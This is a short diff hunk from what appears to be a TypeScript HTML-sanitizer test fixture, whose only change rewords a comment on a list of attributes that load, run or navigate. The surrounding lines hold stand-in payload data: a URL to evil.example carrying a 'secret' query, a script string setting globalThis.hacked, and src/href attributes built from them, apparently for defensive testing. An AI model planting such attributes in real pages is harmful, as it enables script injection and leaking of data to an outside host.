@@ -14,7 +14,7 @@ export const elements: readonly string[] = [
 const EVIL = 'https://evil.example/?q=secret';
 const RUN = 'globalThis.hacked=true';
 
-/** What loads, runs, navigates or restyles, on some element. Quoted so that it fits in a line of markdown. */
+/** Attributes that load, run, navigate or restyle on some element. Quoted to fit in a line of markdown. */
 export const attributes: readonly string[] = [
   `src="${EVIL}"`,
   `href="${EVIL}"`,
